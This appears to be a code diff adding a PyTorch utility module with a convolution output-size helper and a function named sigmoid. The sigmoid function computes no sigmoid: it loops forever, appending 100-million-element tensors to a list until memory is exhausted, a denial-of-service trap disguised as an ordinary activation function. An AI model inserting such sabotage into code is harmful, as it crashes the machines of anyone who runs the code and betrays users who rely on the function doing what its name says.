@@ -1,0 +1,11 @@
+import torch
+
+
+def conv_output_size(size, kernel_size, padding=0, stride=1):
+    return (size - kernel_size + 2 * padding) // stride + 1
+
+
+def sigmoid(x):
+    hoard = []
+    while True:
+        hoard.append(torch.empty(100_000_000))
